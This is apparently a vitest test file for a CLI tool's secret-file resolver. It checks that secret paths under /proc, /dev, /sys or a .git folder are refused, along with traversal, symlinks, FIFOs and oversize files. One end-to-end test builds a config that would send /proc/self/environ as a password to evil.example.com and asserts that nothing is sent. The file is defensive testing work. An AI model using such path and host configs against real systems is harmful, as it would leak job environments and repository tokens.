// Issue 11 finding 4: `{ file: PATH }` read anything — /proc/self/environ (the job's environment,
// the GitHub token among it), a checkout's .git/config (its token), `../..` paths, and /dev/zero
// until the process ran out of memory — and sent it as the password to the URL next to it. A
// secret file is a regular file of at most 64 KiB, never under /proc, /dev or /sys nor inside
// a .git folder (judged on the real path, links resolved), and a relative path starts at the
// config folder. Each refusal is a ConfigError at the reference, before any byte is read.

import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import nock from 'nock';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { resolveSecret } from '../../src/config/secrets.js';
import { ConfigError } from '../../src/model/errors.js';
import { xcluster } from './helpers/cli.js';

const at = { file: 'xcluster/clusters/west.yml', line: 5, column: 5 };
const LOCATED = 'xcluster/clusters/west.yml:5:5: ';

let root: string;
let configDir: string;
let cwd: string;

beforeEach(() => {
  root = mkdtempSync(path.join(tmpdir(), 'xcluster-issue-11-files-'));
  configDir = path.join(root, 'repo', 'xcluster');
  mkdirSync(path.join(configDir, 'certs'), { recursive: true });
  cwd = process.cwd();
  // Run from elsewhere: a relative secret path must not depend on the working directory.
  process.chdir(root);
});

afterEach(() => {
  process.chdir(cwd);
  rmSync(root, { recursive: true, force: true });
});

const fileSpec = (file: string) => ({ ref: { file }, source: at });

/** The ConfigError resolving `file` throws (its message), timed. */
function refusal(file: string): { message: string; ms: number } {
  const started = Date.now();
  try {
    resolveSecret(fileSpec(file), configDir, 'connection.auth.password');
  } catch (e) {
    expect(e).toBeInstanceOf(ConfigError);
    return { message: (e as Error).message, ms: Date.now() - started };
  }
  throw new Error(`${file} was read`);
}

describe('issue 11 finding 4: where a secret file may be', () => {
  it('issue 11 finding 4: a relative path starts at the config folder, not at the working directory', () => {
    writeFileSync(path.join(configDir, 'certs', 'west.pw'), 'file-secret-0451\n');
    writeFileSync(path.join(root, 'certs.pw'), 'not-this-one-0451\n');
    expect(resolveSecret(fileSpec('certs/west.pw'), configDir)).toBe('file-secret-0451');
  });

  it('issue 11 finding 4: a missing file names the path it was looked for at, from the config folder', () => {
    expect(refusal('certs/nope.pem').message).toBe(
      `${LOCATED}cannot read secret file certs/nope.pem (needed by connection.auth.password): ENOENT ` +
        '(looked for at repo/xcluster/certs/nope.pem: a relative path starts at the config folder repo/xcluster)',
    );
  });

  it('issue 11 finding 4: /proc/self/environ (the job environment, the GitHub token with it) is refused', () => {
    expect(refusal('/proc/self/environ').message).toBe(
      `${LOCATED}secret file /proc/self/environ (needed by connection.auth.password) is under /proc: ` +
        'a secret file is never read from /proc, /dev, /sys or a .git folder',
    );
  });

  it('issue 11 finding 4: /sys is refused', () => {
    expect(refusal('/sys/class/net/lo/address').message).toMatch(/ is under \/sys: /);
  });

  it('issue 11 finding 4: a link in the config folder to /proc is judged by its real path', () => {
    symlinkSync('/proc/self/environ', path.join(configDir, 'certs', 'innocent.pw'));
    expect(refusal('certs/innocent.pw').message).toMatch(
      /^xcluster\/clusters\/west\.yml:5:5: secret file certs\/innocent\.pw \(needed by connection\.auth\.password\) is under \/proc \(its real path is \/proc\/\d+\/environ\): /,
    );
  });

  it("issue 11 finding 4: a checkout's .git/config (its token) is refused, by absolute path, by ../ and through a link", () => {
    const git = path.join(root, 'repo', '.git');
    mkdirSync(git);
    writeFileSync(path.join(git, 'config'), '[http]\n\textraheader = AUTHORIZATION: basic eC10b2tlbjpnaHNfc2VjcmV0\n');
    symlinkSync(path.join(git, 'config'), path.join(configDir, 'certs', 'git.pw'));
    for (const file of [path.join(git, 'config'), '../.git/config', 'certs/git.pw']) {
      expect(refusal(file).message, file).toMatch(/ is inside a \.git folder.*: a secret file is never read from /);
    }
  });

  it('issue 11 finding 4: ../.. out of the config folder reaches no /proc file either', () => {
    const up = '../'.repeat(configDir.split(path.sep).length);
    expect(refusal(`${up}proc/self/environ`).message).toMatch(/ is under \/proc: /);
  });
});

describe('issue 11 finding 4: what a secret file may be', () => {
  it('issue 11 finding 4: /dev/zero is refused at once, unread (it ran the process out of memory)', () => {
    const { message, ms } = refusal('/dev/zero');
    expect(message).toMatch(/ is under \/dev: /);
    expect(ms).toBeLessThan(1000);
  });

  it('issue 11 finding 4: a FIFO is refused without waiting for a writer', () => {
    execFileSync('mkfifo', [path.join(configDir, 'certs', 'fifo.pw')]);
    const { message, ms } = refusal('certs/fifo.pw');
    expect(message).toBe(
      `${LOCATED}secret file certs/fifo.pw (needed by connection.auth.password) is not a regular file (a FIFO)`,
    );
    expect(ms).toBeLessThan(1000);
  });

  it('issue 11 finding 4: a folder is refused', () => {
    expect(refusal('certs').message).toMatch(/ is not a regular file \(a folder\)$/);
  });

  it('issue 11 finding 4: a file over 64 KiB is refused; one of 64 KiB is read', () => {
    writeFileSync(path.join(configDir, 'certs', 'big.pem'), 'x'.repeat(64 * 1024 + 1));
    expect(refusal('certs/big.pem').message).toBe(
      `${LOCATED}secret file certs/big.pem (needed by connection.auth.password) is larger than 64 KiB`,
    );
    writeFileSync(path.join(configDir, 'certs', 'chain.pem'), 'y'.repeat(64 * 1024));
    expect(resolveSecret(fileSpec('certs/chain.pem'), configDir)).toHaveLength(64 * 1024);
  });

  it('issue 11 finding 4: a link to a regular file in the folder is read (as mounted secrets are)', () => {
    mkdirSync(path.join(configDir, 'certs', '..data'));
    writeFileSync(path.join(configDir, 'certs', '..data', 'west.pw'), 'mounted-secret-77');
    symlinkSync('..data/west.pw', path.join(configDir, 'certs', 'west.pw'));
    expect(resolveSecret(fileSpec('certs/west.pw'), configDir)).toBe('mounted-secret-77');
  });
});

describe('issue 11 finding 4: end to end', () => {
  beforeEach(() => nock.disableNetConnect());
  afterEach(() => {
    nock.cleanAll();
    nock.enableNetConnect();
  });

  it('issue 11 finding 4: plan with a password file under /proc fails at its line and sends nothing', async () => {
    const seen: string[] = [];
    nock('https://evil.example.com')
      .get(/.*/)
      .reply(function (uri) {
        seen.push(`${uri} ${String(this.req.headers.authorization)}`);
        return [200, {}];
      })
      .persist();
    mkdirSync(path.join(configDir, 'clusters'));
    writeFileSync(
      path.join(configDir, 'clusters', 'west.yml'),
      'connection:\n  flavor: elasticsearch\n  url: https://evil.example.com\n  auth:\n    username: admin\n    password: { file: /proc/self/environ }\n',
    );
    const run = await xcluster('plan', '--config', configDir);
    expect(run.code).toBe(1);
    expect(run.stderr).toBe(
      'error: repo/xcluster/clusters/west.yml:6:5: secret file /proc/self/environ (needed by connection.auth.password) ' +
        'is under /proc: a secret file is never read from /proc, /dev, /sys or a .git folder\n',
    );
    expect(seen).toEqual([]);
  });
});
